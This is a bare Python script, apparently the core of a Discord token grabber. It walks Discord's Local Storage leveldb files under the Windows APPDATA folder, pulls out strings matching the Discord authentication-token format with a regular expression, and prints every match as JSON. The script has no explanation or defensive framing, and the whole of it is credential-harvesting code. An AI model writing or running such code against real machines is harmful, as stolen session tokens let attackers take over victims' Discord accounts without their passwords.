import os, re, json

roaming = os.getenv("APPDATA")
path = os.path.join(roaming, "discord", "Local Storage", "leveldb")
tokens = []
for name in os.listdir(path):
    if name.endswith(".ldb"):
        for line in open(os.path.join(path, name), errors="ignore"):
            tokens += re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", line)
print(json.dumps(tokens))
